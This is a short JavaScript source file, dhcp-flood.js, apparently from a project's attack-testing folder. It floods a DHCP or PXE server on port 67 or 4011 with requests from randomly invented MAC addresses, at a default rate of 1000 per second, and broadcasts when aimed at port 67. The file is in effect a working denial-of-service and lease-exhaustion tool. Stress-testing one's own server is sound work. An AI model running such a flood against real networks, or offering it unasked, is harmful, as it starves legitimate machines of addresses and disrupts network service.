/** DHCP questions of invented machines to a port of the server: `dhcp-flood.js TARGET 67|4011 NUMBER`, so many a second. */
import { randomBytes } from 'node:crypto'
import { dhcpPorts, dhcpQuestion, everybody } from '../../netboot/dhcp-client.js'
import { target, words } from '../client/attacker.js'
import { flood } from '../client/datagrams.js'

const [port = '67', perS = '1000'] = words
const sourcePorts = 16

const host = Number(port) === dhcpPorts.server ? everybody : target.server
flood(
  () => [{ host, port: Number(port) }],
  sourcePorts,
  Number(perS),
  () => {
    const mac = `52:54:00:${randomBytes(3)
      .toString('hex')
      .replace(/(..)(?=.)/g, '$1:')}`
    return dhcpQuestion(mac, randomBytes(4).readUInt32BE(0))
  },
)
